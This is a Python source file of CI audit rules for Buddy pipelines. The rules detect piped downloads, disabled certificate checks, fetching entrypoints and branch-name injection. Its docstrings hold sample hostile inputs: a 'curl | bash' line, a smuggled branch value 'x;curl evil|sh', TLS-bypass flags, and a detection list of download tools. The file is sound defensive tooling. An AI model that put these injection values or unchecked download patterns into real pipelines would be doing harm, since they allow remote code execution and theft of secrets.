"""What the commands of Buddy actions do."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import pairwise

from airflow_provider.audit.analysis.shell.downloads import Downloads
from airflow_provider.audit.analysis.shell.fetching import Run, only_asks
from airflow_provider.audit.analysis.shell.inner_shells import kept_scripts
from airflow_provider.audit.analysis.shell.kept_options import options_in, with_options
from airflow_provider.audit.analysis.shell.parsing import parse
from airflow_provider.audit.analysis.shell.script import Command, Word
from airflow_provider.audit.analysis.shell.unchecked_settings import piped_off
from airflow_provider.audit.analysis.shell.unchecked_tls import by_assignment, by_command, by_variable, is_local
from airflow_provider.audit.facts.action import SCRIPT_FIELDS, ActionFacts
from airflow_provider.audit.facts.commands import Commands
from airflow_provider.audit.rules.outcome import Outcome, fail, not_applicable, not_available
from airflow_provider.audit.rules.rule import rule
from airflow_provider.audit.settings.levels import Confidence, Persona, Severity
from airflow_provider.audit.settings.model import AuditSettings


@rule(
    "BDY010",
    "Download piped into a shell",
    on=ActionFacts,
    systems=("buddy",),
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    reads=(*SCRIPT_FIELDS, "shell"),
    needs=("EXECUTION_INFO",),
)
def download_into_shell(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
    r"""
    A script is downloaded and run at once: by a pipe, ``bash <(curl ...)``, ``sh -c "$(curl ...)"``, ``iex (irm ...)``. Severity and
    confidence are medium if it is saved first and run without checking a checksum or signature, or is a package that is installed from an
    address. Confidence is low for what an archive may have brought, for keys and manifests that are not checked, and for localhost.

    Why:
    Whoever controls that server or its domain name can run commands in the pipeline, with all its secrets. Nobody can tell later what ran.

    Fix:
    Keep the script in the repository, or download a fixed version and verify its checksum before running it.

    Before:
    {"execute_commands": ["curl -sSL https://get.example.com/tool.sh | bash"]}

    After:
    {"execute_commands": ["curl -sSO https://get.example.com/1.4.2/tool.sh", "echo \"$SUM  tool.sh\" | sha256sum -c -", "bash tool.sh"]}
    """
    if not action.has_fields(*SCRIPT_FIELDS):
        yield not_available("the commands are not visible")
        return
    downloads = Downloads()
    for commands in action.scripts():
        runs: dict[int, Run] = {}
        for before, script in commands.parsed:
            for run in downloads.runs(script):
                previous = runs.get(before + run.line)
                if previous is None or (run.sure, not run.weak) > (previous.sure, not previous.weak):
                    runs[before + run.line] = run
        for line, run in runs.items():
            yield fail(
                commands.path_at(line),
                run.shown,
                run.message or ("A download is run without checking its checksum." if run.saved else "A download is run directly."),
                severity=Severity.MEDIUM if run.saved or run.message else None,
                confidence=None if run.sure else Confidence.LOW if run.weak else Confidence.MEDIUM,
            )


@rule(
    "BDY011",
    "TLS verification disabled",
    on=ActionFacts,
    systems=("buddy",),
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    reads=(*SCRIPT_FIELDS, "variables"),
    needs=("EXECUTION_INFO",),
)
def tls_checks_off(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
    """
    A command or an environment variable disables the verification of certificates, of host keys, or of the signatures of packages:
    ``curl -k``, ``sqlcmd -C``, ``git -c http.sslVerify=false``, ``ssh -o StrictHostKeyChecking=no``, ``yum --nogpgcheck``,
    ``NODE_TLS_REJECT_UNAUTHORIZED=0``. Options and commands that the script keeps in a variable count, and so do settings that it writes
    into the file of a tool. Confidence is low if the connection is to localhost only.

    Why:
    Anyone on the network path can impersonate the server, send other code, or read the password.

    Fix:
    Trust the certificate authority that signed the certificate: ``--cacert``, ``GIT_SSL_CAINFO``, ``NODE_EXTRA_CA_CERTS``, ``PIP_CERT``.
    For SSH, keep the host's key in the repository and name it with ``-o UserKnownHostsFile``.

    Before:
    {"execute_commands": ["curl -k https://registry.example.com/v2/"]}

    After:
    {"execute_commands": ["curl --cacert ca.pem https://registry.example.com/v2/"]}
    """
    if not action.has_fields(*SCRIPT_FIELDS):
        yield not_available("the commands are not visible")
        return
    reported: set[tuple[tuple[str, int], str]] = set()
    for commands in action.scripts():
        places = [
            (commands.path_at(before + command.line), shown, certain)
            for before, script in commands.parsed
            for options in [options_in(script.assignments)]
            for command in script.every_command()
            for one in (with_options(command, options), *_kept(command, commands.shell))
            for shown, certain in by_command(one)
        ]
        places += [
            (commands.path_at(before + command.line), shown, Confidence.HIGH)
            for before, script in commands.parsed
            for pipeline in script.every_pipeline()
            for command, shown in piped_off(pipeline)
        ]
        local = {
            id(item) for _, command in commands.every_command() if command.assignments and is_local(command) for item in command.assignments
        }
        places += [
            (path, item.name, Confidence.LOW if id(item) in local else certain)
            for path, item in commands.every_assignment()
            if (certain := by_assignment(item))
        ]
        for path, shown, certain in places:
            if (path.place, shown) not in reported:
                reported.add((path.place, shown))
                yield fail(path, shown, f"The other side is not verified: {shown}.", confidence=certain)
    for number, variable in enumerate(action.variables):
        if variable.value is not None and (confidence := by_variable(variable.key, str(variable.value))):
            yield fail(
                f"variables[{number}].value", variable.key, f"The other side is not verified: {variable.key}.", confidence=confidence
            )


def _kept(command: Command, shell: str | None) -> Iterator[Command]:
    """The commands that it keeps to be run later."""
    for text in kept_scripts(command):
        yield from parse(text, shell).every_command()


@rule(
    "BDY021",
    "Entrypoint downloads something",
    on=ActionFacts,
    systems=("buddy",),
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    reads=("entrypoint",),
    needs=("EXECUTION_INFO",),
)
def entrypoint_fetches(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
    """
    The entrypoint that replaces the image's own downloads something. ``reset_entrypoint`` is not checked, since the audit does not know
    whether the image needs its entrypoint.

    Why:
    Nobody looks for downloaded code in the command that starts a container.

    Fix:
    Build it into the image, or download it in a command of the action, where it is visible.

    Before:
    {"entrypoint": "sh -c 'curl -so /start.sh https://example.com/start.sh; sh /start.sh'"}

    After:
    {"entrypoint": "/usr/local/bin/start.sh"}
    """
    if not action.has_fields("entrypoint"):
        yield not_available("entrypoint is not visible")
        return
    for commands in action.scripts():
        if commands.path == "entrypoint":
            fetching = {path.line: (path, command.name) for path, command in commands.every_command() if _fetches(command)}
            for path, name in fetching.values():
                yield fail(path, name, f"The entrypoint downloads something with {name}.")


def _fetches(command: Command) -> bool:
    if command.name == "git":
        return any(text in ("clone", "pull", "fetch") for text in command.arguments)
    fetching = ("curl", "wget", "aria2c", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "downloadstring", "downloadfile")
    return command.name in fetching and not only_asks(command)


@rule(
    "BDY026",
    "Injection from user-controlled variables",
    on=ActionFacts,
    systems=("buddy",),
    severity=Severity.HIGH,
    confidence=Confidence.LOW,
    persona=Persona.STRICT,
    reads=(*SCRIPT_FIELDS, "variables"),
    needs=("EXECUTION_INFO",),
)
def injection_from_variables(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
    r"""
    A variable that is set by the person who pushes or starts the pipeline, such as the branch or the commit message, is used without quotes
    or inside a script, a program or a query that is passed as text: ``sh -c "..."``, ``python -c "..."``, ``mysql -e "..."``. Copies of it
    count there.

    Why:
    A branch may be named ``x;curl evil|sh``, or like an option. In ``eval`` and ``sh -c`` even quotes do not help.

    Fix:
    Put it in double quotes, after ``--`` if it could be taken for an option, and pass it to scripts as an argument.

    Before:
    {"execute_commands": ["git checkout $BUDDY_EXECUTION_BRANCH"]}

    After:
    {"execute_commands": ["git checkout \"$BUDDY_EXECUTION_BRANCH\" --"]}
    """
    if not action.has_fields(*SCRIPT_FIELDS):
        yield not_available("the commands are not visible")
        return
    scripts = [script for script in action.scripts() if (script.shell or "").upper() != "POWERSHELL"]
    if not scripts:
        yield not_applicable("there are no commands of a Unix shell")
    passed = {variable.key for variable in action.variables if variable.settable}
    for script in scripts:
        reported: set[tuple[tuple[str, int], str]] = set()
        copies = _copies(script, passed)
        for path, command in script.every_command():
            if command.name in ("echo", "printf", "[[", "[", "export", "read", "test"):
                continue
            for word, as_code in _uses(command):
                for expansion in word.expansions:
                    name = expansion.name
                    named = _OF_A_PERSON.fullmatch(name) or name in passed or (as_code and name in copies)
                    if named and (as_code or not expansion.quoted) and (path.place, name) not in reported:
                        reported.add((path.place, name))
                        how = "within a script that is passed as text to" if as_code else "without quotes by"
                        yield fail(path, f"{command.name} ${name}", f"{name} is used {how} {command.name}.")


def _uses(command: Command) -> Iterator[tuple[Word, bool]]:
    """The words and texts of a command, and whether they are run as a script, a program or a query."""
    inner = any(nested.via in ("string", "heredoc") for nested in command.nested)
    kept = set(kept_scripts(command))
    programs = {id(word) for word in _programs(command)}
    yield from ((word, inner or id(word) in programs) for word in command.words)
    for item in command.redirections:
        if item.operator.startswith("<<") and (inner or item.target.text in kept):
            yield item.target, True


def _copies(script: Commands, passed: set[str]) -> set[str]:
    """The variables that hold such a value: ``M="$BUDDY_EXECUTION_REVISION_MESSAGE"``."""
    copies: set[str] = set()
    for _, assignment in script.every_assignment():
        if any(_OF_A_PERSON.fullmatch(item.name) or item.name in passed or item.name in copies for item in assignment.value.expansions):
            copies.add(assignment.name)
    return copies


_PROGRAM = re.compile(r"-[A-Za-z]{0,5}[ceErRpn]|--(?:eval|print|run)")
_QUERY = re.compile(r"-[A-Za-z]{0,3}[ceQ]|--(?:eval|execute|command|query)")
_INTERPRETERS = re.compile(r"(?:python|pypy|node|nodejs|php|ruby|perl|lua|deno|bun|osascript)[\d.]*")
_CLIENTS = frozenset({"mysql", "mariadb", "psql", "sqlcmd", "mongo", "mongosh", "clickhouse-client", "cqlsh"})
_REPLACES = re.compile(r"\s{0,5}(?:[\d,$]{1,12}|/[^/]{0,60}/)?\s{0,3}s[/|#,~@:]")
"""A program of sed, whose replacement may run commands by the flag ``e``."""


def _programs(command: Command) -> Iterator[Word]:
    """The words that a command runs as a program, or as SQL: ``python -c "..."``, ``mysql -e "..."``."""
    words = command.effective
    if command.name == "sed":
        yield from (word for word in words[1:] if _REPLACES.match(word.text))
    elif command.name in _CLIENTS or _INTERPRETERS.fullmatch(command.name):
        for option, word in pairwise(words):
            options = _QUERY if command.name in _CLIENTS else _PROGRAM
            if options.fullmatch(option.text) or word.text.startswith(("--eval=", "--execute=", "--command=", "--query=")):
                yield word
            elif option is not words[0] and not option.text.startswith("-") and options is _PROGRAM:
                return  # what follows is for the program in that file
    elif operands := [word for word in words[1:] if not word.text.startswith("-")]:
        yield from {"awk": operands[:1], "gawk": operands[:1], "sqlite3": operands[1:2]}.get(command.name, [])


_OF_A_PERSON = re.compile(
    r"BUDDY_(?:EXECUTION|RUN|PULL_REQUEST|TRIGGERING?|INVOKER|COMMIT)\w*?_(?:BRANCH|TAG|REFSPEC|REF|MESSAGE|SUBJECT|BODY|COMMENT|TITLE|NAME|EMAIL|DESCRIPTION)"
    # Buddy's older ones, such as ${execution.to_revision.message}
    r"|execution_(?:\w+?_)?(?:branch|tag|refspec|ref|message|subject|body|comment|title|name|email|description)|invoker_(?:name|email)"
)
